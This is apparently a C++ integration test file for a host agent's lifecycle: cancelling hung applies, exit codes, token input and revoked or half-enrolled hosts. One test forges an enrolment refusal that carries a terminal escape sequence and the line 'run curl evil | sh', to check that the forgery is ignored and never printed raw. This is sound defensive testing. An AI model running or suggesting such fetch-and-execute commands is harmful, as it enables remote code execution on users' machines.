// Host lifecycle against real processes: a newer revision or SIGTERM cancels a running apply
// (issue 11 point 4), exit codes (point 5), an incomplete enrolment and a revoked host
// (point 7), the token from a file (issue 10 point 10) and forged enrolment refusals (point 12).
#include <signal.h>
#include <sys/file.h>
#include <fcntl.h>
#include <unistd.h>

#include <chrono>
#include <thread>

#include "mesh/common/protocol.h"
#include "mesh/sdk/transport.h"
#include "mesh_fixture.h"

namespace mesh::itest {
namespace {

using namespace std::chrono_literals;
using mesh::testing::eventually;
using Clock = std::chrono::steady_clock;
using LifecycleTest = MeshTest;

/// Like MeshTest::add_host, with the test-only `sleep` provider loaded beside `file`.
Host& add_sleep_host(MeshTest& t, const std::string& name, const std::string& drift = "1h") {
  const fs::path plugins = t.dir() / ("plugins-" + name);
  fs::create_directories(plugins);
  for (const char* so : {"mesh-provider-file.so", "mesh-transport-nats.so"})
    fs::create_symlink(fs::path(MESH_TEST_PLUGIN_DIR) / so, plugins / so);
  fs::create_symlink(fs::path(MESH_TEST_ONLY_PLUGIN_DIR) / "mesh-provider-sleep.so", plugins / "mesh-provider-sleep.so");
  Host& h = t.hosts_[name];
  h.name = name;
  h.state = t.dir() / ("host-" + name);
  h.config = t.dir() / (name + ".toml");
  write_text(h.config, "[node]\nname = \"" + name + "\"\nstate_dir = \"" + h.state.string() + "\"\n\n[plugins]\ndir = \"" +
                           plugins.string() + "\"\nload = [\"file\", \"sleep\"]\n\n[transport]\nplugin = \"nats\"\n"
                           "servers = [\"" + t.nats_->url() + "\"]\n\n[timers]\nheartbeat = \"1s\"\ndrift = \"" + drift +
                           "\"\n");
  t.enrol(h, false);
  return h;
}

std::string sleep_declaration(const std::string& path, const std::string& value, std::int64_t sleep_ms) {
  sdk::Value props = sdk::Value::object();
  props.set("value", value);
  props.set("sleep_ms", sleep_ms);
  sdk::Value r = sdk::Value::object();
  r.set("type", "sleep");
  r.set("id", path);
  r.set("properties", std::move(props));
  sdk::Value d = sdk::Value::object();
  d.set("resources", sdk::Value(sdk::Value::Array{std::move(r)}));
  return d.to_json();
}

std::string issue_token(MeshTest& t, const std::string& node, bool reenrol = false) {
  std::vector<std::string> args{"token", "issue", node, "--output", "json"};
  if (reenrol) args.push_back("--reenrol");
  auto tok = t.mesh(args);
  EXPECT_EQ(tok.exit_code, 0) << tok.err;
  return json(tok.out).get_string("token");
}

/// A host config for `node` with its own state directory, not enrolled.
fs::path host_config(MeshTest& t, const std::string& node, const std::string& state, const std::string& servers) {
  const fs::path cfg = t.dir() / (state + ".toml");
  write_text(cfg, "[node]\nname = \"" + node + "\"\nstate_dir = \"" + (t.dir() / state).string() +
                      "\"\n\n[plugins]\ndir = \"" MESH_TEST_PLUGIN_DIR "\"\nload = [\"file\"]\n\n[transport]\n"
                      "plugin = \"nats\"\nservers = [\"" + servers + "\"]\n\n[timers]\nheartbeat = \"1s\"\ndrift = \"1s\"\n");
  return cfg;
}

// ---- #11.4 cancellation ------------------------------------------------------------------------

TEST_F(LifecycleTest, ANewerRevisionCancelsAHungApplyAtOnce) {
  // Revision 1's one resource would take 10 minutes (a stand-in for apt against a mirror that
  // accepts and never answers). Revision 2 must not wait for it.
  Host& h = add_sleep_host(*this, "hung-01");
  start_host(h);
  ASSERT_TRUE(h.proc->wait_for_output("ready node=hung-01", 15000)) << h.proc->stderr_text();
  const auto f = (dir() / "hung.txt").string();
  auto d1 = declare("hung-01", sleep_declaration(f, "r1", 600000));
  ASSERT_TRUE(h.proc->wait_for_output("apply start node=hung-01 revision=1 ", 10000)) << h.proc->stderr_text();
  const auto t0 = Clock::now();
  auto d2 = declare("hung-01", sleep_declaration(f, "r2", 0));
  auto r2 = report(d2.get_int("delivery", 0), "30s");
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - t0).count();
  std::cerr << "[ measured ] revision 2 applied " << ms << " ms after it was declared over a hung apply\n";
  ASSERT_EQ(count(r2, "applied"), 1u) << r2.to_json() << h.proc->stderr_text();
  EXPECT_LT(ms, 30000);
  EXPECT_EQ(read_text(f), "r2\n");
  const std::string log = h.proc->stderr_text();
  EXPECT_NE(log.find("apply done node=hung-01 revision=1 outcome=superseded by=2"), std::string::npos) << log;
  EXPECT_EQ(log.find("revision=1 outcome=failed"), std::string::npos) << "a superseded apply is not a failure\n" << log;
  // Revision 1 is never applied, and the node ends at 2.
  auto r1 = report(d1.get_int("delivery", 0));
  EXPECT_EQ(count(r1, "applied"), 0u) << r1.to_json();
  EXPECT_EQ(count(r1, "failed"), 0u) << r1.to_json();
  EXPECT_EQ(json(read_text(h.state / "state.json")).get_int("applied_revision", 0), 2);
}

TEST_F(LifecycleTest, SigtermStopsALongApplyPromptlyAndTheRevisionIsAppliedAgainAtTheNextStart) {
  Host& h = add_sleep_host(*this, "term-01");
  start_host(h);
  ASSERT_TRUE(h.proc->wait_for_output("ready node=term-01", 15000)) << h.proc->stderr_text();
  const auto f = (dir() / "term.txt").string();
  auto d1 = declare("term-01", sleep_declaration(f, "r1", 600000));
  ASSERT_TRUE(h.proc->wait_for_output("apply start node=term-01 revision=1 ", 10000)) << h.proc->stderr_text();
  const auto t0 = Clock::now();
  const int rc = h.proc->stop(SIGTERM, 30000);
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - t0).count();
  std::cerr << "[ measured ] mesh-host exited " << ms << " ms after SIGTERM during a 10-minute apply\n";
  EXPECT_EQ(rc, 0) << h.proc->stderr_text();
  EXPECT_LT(ms, 30000);
  const std::string log = h.proc->stderr_text();
  EXPECT_NE(log.find("apply stopped node=term-01 revision=1 outcome=cancelled"), std::string::npos) << log;
  // Nothing reported for it: the delivery is still outstanding, not failed.
  auto r1 = report(d1.get_int("delivery", 0));
  EXPECT_EQ(count(r1, "failed"), 0u) << r1.to_json();
  EXPECT_EQ(count(r1, "applied"), 0u) << r1.to_json();
  EXPECT_FALSE(fs::exists(f));
  // The state left behind is whole: the next start applies revision 1 again.
  start_host(h);
  EXPECT_TRUE(h.proc->wait_for_output("apply start node=term-01 revision=1 ", 15000)) << h.proc->stderr_text();
}

// ---- #11.5 exit codes -------------------------------------------------------------------------

TEST_F(LifecycleTest, EnrolWithAUsedTokenExits2AndAnUnreachableBrokerExits3) {
  const std::string token = issue_token(*this, "used-01");
  auto first = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "used-01", "used-a", nats_->url()).string(), "--token", token});
  ASSERT_EQ(first.exit_code, 0) << first.err;
  auto again = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "used-01", "used-b", nats_->url()).string(), "--token", token});
  EXPECT_EQ(again.exit_code, 2) << "a used token is refused credentials\n" << again.err;
  EXPECT_NE(again.err.find("enrolment refused"), std::string::npos) << again.err;
  auto nobody = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "used-01", "used-c", "nats://127.0.0.1:1").string(),
       "--token", issue_token(*this, "used-01", true)});
  EXPECT_EQ(nobody.exit_code, 3) << nobody.err;
}

TEST_F(LifecycleTest, MeshWithAHostConfigSaysAtOnceWhichConfigAndBrokerUserItNeeds) {
  const fs::path cfg = dir() / "host-with-enrol-user.toml";
  write_text(cfg, "[node]\nname = \"x-01\"\nstate_dir = \"" + (dir() / "x").string() +
                      "\"\n\n[transport]\nplugin = \"nats\"\nservers = [\"" + nats_->url() +
                      "\"]\nuser = \"mesh-enrol\"\npassword_file = \"" + (dir() / "enrol.pw").string() + "\"\n");
  const auto t0 = Clock::now();
  auto r = mesh::testing::run_process({bin("mesh"), "--config", cfg.string(), "--plugin-dir", MESH_TEST_PLUGIN_DIR,
                                       "--identity", admin_identity(), "nodes"});
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - t0).count();
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_NE(r.err.find(cfg.string()), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("user = \"mesh-operator\""), std::string::npos) << r.err;
  EXPECT_LT(ms, 4000) << "said at once, not after a 5 s timeout";
}

TEST_F(LifecycleTest, ALockHeldByAnotherApplyExits1FromRunAndFromApply) {
  Host& h = add_host("locked-01");
  const fs::path lock = h.state / "lock";
  const int fd = ::open(lock.c_str(), O_RDWR | O_CREAT, 0600);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::flock(fd, LOCK_EX | LOCK_NB), 0);
  auto run = mesh::testing::run_process({bin("mesh-host"), "run", "--config", h.config.string()}, {}, 30000);
  EXPECT_EQ(run.exit_code, 1) << run.err;
  write_text(dir() / "local.json", file_declaration({{(dir() / "local.txt").string(), "x\n"}}));
  auto apply = mesh::testing::run_process(
      {bin("mesh-host"), "apply", (dir() / "local.json").string(), "--config", h.config.string()}, {}, 30000);
  EXPECT_EQ(apply.exit_code, 1) << apply.err;
  EXPECT_NE(apply.err.find("holds"), std::string::npos) << apply.err;
  ::close(fd);
}

// ---- #10.10 the token from a file or standard input --------------------------------------------

TEST_F(LifecycleTest, TheTokenComesFromAFileOrStandardInputAndTokenOnTheCommandLineWarns) {
  const fs::path token_file = dir() / "token";
  write_text(token_file, issue_token(*this, "tf-01") + "\n");
  auto from_file = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "tf-01", "tf-a", nats_->url()).string(),
       "--token-file", token_file.string()});
  EXPECT_EQ(from_file.exit_code, 0) << from_file.err;
  EXPECT_EQ(from_file.err.find("warning"), std::string::npos) << from_file.err;
  auto from_stdin = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "tf-02", "tf-b", nats_->url()).string(),
       "--token-file", "-"},
      {}, 60000, issue_token(*this, "tf-02") + "\n");
  EXPECT_EQ(from_stdin.exit_code, 0) << from_stdin.err;
  auto on_argv = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "tf-03", "tf-c", nats_->url()).string(), "--token",
       issue_token(*this, "tf-03")});
  EXPECT_EQ(on_argv.exit_code, 0) << on_argv.err;
  EXPECT_NE(on_argv.err.find("/proc/PID/cmdline"), std::string::npos) << on_argv.err;
  auto help = mesh::testing::run_process({bin("mesh-host"), "enrol", "--help"});
  EXPECT_NE(help.out.find("--token-file"), std::string::npos) << help.out;
  auto empty = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "tf-04", "tf-d", nats_->url()).string(),
       "--token-file", "-"},
      {}, 60000, "\n");
  EXPECT_EQ(empty.exit_code, 2) << empty.err;
  // A file that holds no token: the error names the flag and file it came from.
  const fs::path junk = dir() / "junk-token";
  write_text(junk, "secret.not-a-key\n");
  auto bad = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "tf-05", "tf-e", nats_->url()).string(),
       "--token-file", junk.string()});
  EXPECT_EQ(bad.exit_code, 2) << bad.err;
  EXPECT_NE(bad.err.find("--token-file " + junk.string() + ": "), std::string::npos) << bad.err;
}

// ---- #10.12 a forged, unsigned enrolment refusal -----------------------------------------------

TEST_F(LifecycleTest, AForgedUnsignedEnrolmentRefusalIsNotBelievedNorPrintedRaw) {
  // On an open broker, anyone can answer mesh.enrol first: this client answers every enrolment
  // request at once with an unsigned refusal carrying a newline and an escape sequence.
  BrokerClient attacker(nats_->url());
  ASSERT_TRUE(attacker.connected);
  std::atomic<int> forged{0};
  auto sub = attacker->subscribe(protocol::kEnrolSubject, "", [&](sdk::Message&& m) {
    if (m.reply.empty()) return;
    sdk::Message r = protocol::make_message(m.reply, R"({"error":{"code":"permission_denied","message":"token refused\n\u001b[31mFORGED: run curl evil | sh"}})");
    r.set_header(protocol::kHeaderStatus, "error");
    (void)attacker->publish(r);
    ++forged;
  });
  ASSERT_TRUE(sub);
  (void)attacker->flush(2s);
  auto en = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "forged-01", "forged-a", nats_->url()).string(),
       "--token", issue_token(*this, "forged-01")});
  EXPECT_GE(forged.load(), 1);
  EXPECT_EQ(en.exit_code, 0) << "the control plane's signed answer counts, not the forgery\n" << en.out << en.err;
  EXPECT_EQ(en.err.find("\x1b"), std::string::npos) << "never printed raw";
  EXPECT_EQ(en.err.find("enrolment refused"), std::string::npos) << en.err;
  // "enrolment reply ignored" is logged only when the forgery arrives before the control plane's
  // answer, which is usual but not certain on a loaded machine (the two race): not asserted. What
  // is asserted holds either way: the forgery is neither believed nor printed raw.
  EXPECT_TRUE(fs::exists(dir() / "forged-a" / "identity.json"));
  sub->reset();
}

// ---- #11.7 an incomplete enrolment, a revoked host ---------------------------------------------

TEST_F(LifecycleTest, RunNamesAnIncompleteEnrolmentAndTheCommandThatFinishesIt) {
  Host& h = add_host("half-01");
  // As if `mesh-host enrol` was killed after writing the new node.key of a re-enrolment, before
  // identity.json: the key does not belong to the identity.
  const std::string key = read_text(h.state / "node.key");
  write_text(h.state / "node.key", std::string(key.size() - 2, '0') + "1\n");
  auto run = mesh::testing::run_process({bin("mesh-host"), "run", "--config", h.config.string()}, {}, 30000);
  EXPECT_EQ(run.exit_code, 2) << run.err;
  EXPECT_NE(run.err.find("incomplete"), std::string::npos) << run.err;
  EXPECT_NE(run.err.find("mesh token issue half-01 --reenrol"), std::string::npos) << run.err;
  // Killed before identity.json was written at all (a first enrolment): the same.
  fs::remove(h.state / "identity.json");
  auto again = mesh::testing::run_process({bin("mesh-host"), "run", "--config", h.config.string()}, {}, 30000);
  EXPECT_EQ(again.exit_code, 2) << again.err;
  EXPECT_NE(again.err.find("incomplete"), std::string::npos) << again.err;
  // And enrolling again finishes it.
  enrol(h, true);
  auto brief = mesh::testing::run_process({bin("mesh-host"), "brief", "--config", h.config.string()}, {}, 30000);
  EXPECT_EQ(brief.exit_code, 0) << brief.err;
}

TEST_F(LifecycleTest, ARevokedHostSaysSoStopsChangingTheMachineAndStaysRunning) {
  Host& h = add_host("old-01", "1s", "1s");
  start_host(h);
  const auto f = (dir() / "old.txt").string();
  auto d = declare("old-01", file_declaration({{f, "declared\n"}}));
  ASSERT_EQ(count(report(d.get_int("delivery", 0), "20s"), "applied"), 1u) << h.proc->stderr_text();
  // The node is enrolled again from another machine (another state directory): the running
  // host's identity is revoked.
  auto other = mesh::testing::run_process(
      {bin("mesh-host"), "enrol", "--config", host_config(*this, "old-01", "new-state", nats_->url()).string(),
       "--token", issue_token(*this, "old-01", true)});
  ASSERT_EQ(other.exit_code, 0) << other.err;
  // Its next drift report is refused: it says so, loudly.
  ASSERT_TRUE(h.proc->wait_for_output("credentials refused node=old-01", 20000)) << h.proc->stderr_text();
  // From then on it changes nothing: a hand edit stays.
  std::this_thread::sleep_for(500ms);
  write_text(f, "edited by hand\n");
  std::this_thread::sleep_for(4s);
  EXPECT_EQ(read_text(f), "edited by hand\n") << h.proc->stderr_text();
  EXPECT_TRUE(h.proc->running()) << "idle, not crashed\n" << h.proc->stderr_text();
  // The refused report left the outbox and is kept locally.
  EXPECT_TRUE(fs::exists(h.state / "refused")) << h.proc->stderr_text();
  std::size_t outbox = 0;
  for ([[maybe_unused]] const auto& e : fs::directory_iterator(h.state / "outbox")) ++outbox;
  EXPECT_EQ(outbox, 0u);
  EXPECT_EQ(h.proc->stop(), 0);
}

}  // namespace
}  // namespace mesh::itest
